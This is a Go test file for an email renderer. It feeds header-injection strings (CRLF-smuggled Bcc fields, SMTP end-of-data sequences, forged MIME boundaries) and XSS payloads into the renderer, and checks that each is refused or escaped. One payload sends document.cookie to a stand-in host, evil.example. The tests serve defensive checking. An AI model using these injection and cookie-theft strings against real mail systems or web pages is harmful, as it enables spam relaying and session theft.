package compose

import (
	"bytes"
	"errors"
	"strings"
	"testing"
)

// headerBlock returns the top-level header of msg, up to the blank line.
func headerBlock(msg []byte) string {
	if i := bytes.Index(msg, []byte("\r\n\r\n")); i >= 0 {
		return string(msg[:i+2])
	}
	return string(msg)
}

// TestRenderInjection tries to inject header fields through every input
// that reaches the header (addresses, message id, campaign, extra header
// names and values, subject data) and through the data of the bodies. An
// input is refused with ErrHeaderInjection or ErrInvalidHeader, or the
// message renders with exactly the expected header fields (no Bcc, no
// second To), CRLF line ends, and the same MIME structure.
func TestRenderInjection(t *testing.T) {
	const bcc = "\r\nBcc: evil@example.net"
	tests := []struct {
		name    string
		edit    func(*Input)
		wantErr error // nil: renders
	}{
		{"CRLF in To", func(in *Input) { in.To = "jana@example.sk" + bcc }, ErrHeaderInjection},
		{"LF in To", func(in *Input) { in.To = "jana@example.sk\nBcc: evil@example.net" }, ErrHeaderInjection},
		{"CR in To", func(in *Input) { in.To = "jana@example.sk\rBcc: evil@example.net" }, ErrHeaderInjection},
		{"second address in To", func(in *Input) { in.To = "jana@example.sk, evil@example.net" }, ErrInvalidHeader},
		{"display name with CRLF in From", func(in *Input) { in.From = "Shop" + bcc + " <news@shop.example.com>" }, ErrHeaderInjection},
		{"quoted CRLF in To", func(in *Input) { in.To = `"a` + bcc + `"@example.sk` }, ErrHeaderInjection},
		{"NUL in To", func(in *Input) { in.To = "jana@example.sk\x00Bcc: evil@example.net" }, ErrInvalidHeader},
		{"CRLF in the message id", func(in *Input) { in.MessageID = "a@b" + bcc }, ErrHeaderInjection},
		{"CRLF in the campaign", func(in *Input) { in.Campaign = "may" + bcc }, ErrHeaderInjection},
		{"CRLF in a header value", func(in *Input) { in.Headers = map[string]string{"List-Unsubscribe": "<https://x.example>" + bcc} }, ErrHeaderInjection},
		{"folded header value", func(in *Input) { in.Headers = map[string]string{"X-A": "v\r\n Bcc: evil@example.net"} }, ErrHeaderInjection},
		{"CRLF in a header name", func(in *Input) { in.Headers = map[string]string{"X-A: v" + bcc + "\r\nX-B": "w"} }, ErrHeaderInjection},
		{"colon in a header name", func(in *Input) { in.Headers = map[string]string{"Bcc: evil@example.net\tX-A": "w"} }, ErrInvalidHeader},
		{"Bcc as an extra header is allowed only as what it says", func(in *Input) { in.Headers = map[string]string{"To": "evil@example.net"} }, ErrInvalidHeader},
		{"CRLF in subject data", func(in *Input) { in.Data["first_name"] = "Jana" + bcc }, ErrHeaderInjection},
		{"vertical tab in subject data", func(in *Input) { in.Data["first_name"] = "Jana\vBcc: evil@example.net" }, ErrInvalidHeader},
		{"encoded word with CRLF in subject data", func(in *Input) { in.Data["first_name"] = "=?utf-8?q?Jana=0D=0ABcc:_evil@example.net?=" }, nil},
		{"CRLF in body data", func(in *Input) { in.Data["offer"] = "20% off" + bcc + "\r\n\r\n<script>alert(1)</script>" }, nil},
		{"MIME boundary in body data", func(in *Input) {
			in.Data["offer"] = "\r\n--=_bl_alter_" + boundaryTag(in.MessageID) + "\r\nContent-Type: text/html\r\n\r\n<script>x()</script>\r\n--=_bl_alter_" + boundaryTag(in.MessageID) + "--\r\n"
		}, nil},
		{"SMTP end of data in body data", func(in *Input) { in.Data["offer"] = "x\r\n.\r\nMAIL FROM:<evil@example.net>\r\n" }, nil},
		{"bare CR and LF in body data", func(in *Input) { in.Data["offer"] = "a\rBcc: x@example.net\nb\r\rc\n\n.\n" }, nil},
	}
	for _, tt := range tests {
		for _, small := range []bool{false, true} {
			t.Run(tt.name, func(t *testing.T) {
				in := testInput()
				in.Small = small
				tt.edit(&in)
				msg, err := Default().Render(in)
				if tt.wantErr != nil {
					if err == nil || !errors.Is(err, tt.wantErr) || msg != nil {
						t.Fatalf("Render() = %d bytes, %v, want no message and %v", len(msg), err, tt.wantErr)
					}
					return
				}
				if err != nil {
					t.Fatalf("Render() error = %v", err)
				}
				if !crlfOnly(msg) {
					t.Fatalf("Render() has a line not ending in CRLF:\n%q", msg)
				}
				head := headerBlock(msg)
				for _, line := range strings.Split(head, "\r\n") {
					if k, _, ok := strings.Cut(line, ":"); ok && !strings.HasPrefix(line, " ") && !strings.HasPrefix(line, "\t") {
						switch strings.ToLower(k) {
						case "bcc", "cc", "reply-to", "sender":
							t.Fatalf("injected header field %q:\n%s", line, head)
						}
					}
				}
				p := parseMessage(t, msg)
				want := []string{"Date", "From", "To", "Subject", "Message-Id", "Mime-Version", CampaignHeader, "List-Unsubscribe", "Content-Type"}
				if got := topKeys(p.header); strings.Join(got, ",") != strings.Join(want, ",") {
					t.Fatalf("header fields %v, want %v:\n%s", got, want, head)
				}
				if got := p.header.Get("To"); got != "jana.novakova@example.sk" {
					t.Errorf("To = %q", got)
				}
				wantStructure := "multipart/mixed[multipart/alternative[text/plain,text/html],image/png]"
				if small {
					wantStructure = "multipart/alternative[text/plain,text/html]"
				}
				if p.structure != wantStructure {
					t.Fatalf("structure = %q, want %q", p.structure, wantStructure)
				}
				for _, l := range p.leaves {
					if l.contentType == "text/html" && bytes.Contains(bytes.ToLower(l.body), []byte("<script")) {
						t.Errorf("the HTML part has an unescaped <script>:\n%s", l.body)
					}
				}
			})
		}
	}
}

// TestRenderHTMLEscapes checks that template data is escaped in the HTML
// part by context: text, and the unsubscribe link's URL (a javascript: URL
// is replaced), while the text part keeps it as written.
func TestRenderHTMLEscapes(t *testing.T) {
	in := testInput()
	in.Data["first_name"] = `<img src=x onerror=alert(1)>"'&`
	in.Data["offer"] = `</p><script>document.location='https://evil.example/?c='+document.cookie</script><p>`
	in.Data["unsubscribe_url"] = `javascript:alert(1)`
	msg, err := Default().Render(in)
	if err != nil {
		t.Fatal(err)
	}
	p := parseMessage(t, msg)
	var text, html string
	for _, l := range p.leaves {
		switch l.contentType {
		case "text/plain":
			text = string(l.body)
		case "text/html":
			html = string(l.body)
		}
	}
	for _, bad := range []string{"<script", "<img", `href="javascript:`} {
		if strings.Contains(html, bad) {
			t.Errorf("the HTML part contains %q:\n%s", bad, html)
		}
	}
	for _, want := range []string{"&lt;img src=x onerror=alert(1)&gt;&#34;&#39;&amp;", "&lt;/p&gt;&lt;script&gt;", `href="#ZgotmplZ"`} {
		if !strings.Contains(html, want) {
			t.Errorf("the HTML part lacks %q:\n%s", want, html)
		}
	}
	if !strings.Contains(text, `<img src=x onerror=alert(1)>"'&`) || !strings.Contains(text, "<script>document.location") {
		t.Errorf("the text part does not keep the data as written:\n%s", text)
	}
}
